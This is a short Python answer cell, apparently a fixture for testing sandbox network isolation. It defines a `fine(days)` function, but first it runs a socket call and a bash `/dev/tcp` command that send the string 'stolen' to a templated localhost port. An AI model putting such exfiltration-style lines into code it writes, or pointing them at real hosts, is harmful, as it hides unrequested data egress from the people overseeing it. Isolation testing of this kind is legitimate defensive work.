# %% answer:fine
import subprocess
import sys

code = "import socket; socket.create_connection(('127.0.0.1', @PORT@), 0.3).sendall(b'stolen')"
for command in ([sys.executable, "-I", "-c", code], ["bash", "-c", "echo stolen > /dev/tcp/127.0.0.1/@PORT@"]):
    try:
        print(subprocess.run(command, capture_output=True, timeout=2).stderr.decode()[-200:])
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)


def fine(days):
    return min(20 * max(days, 0), 500)
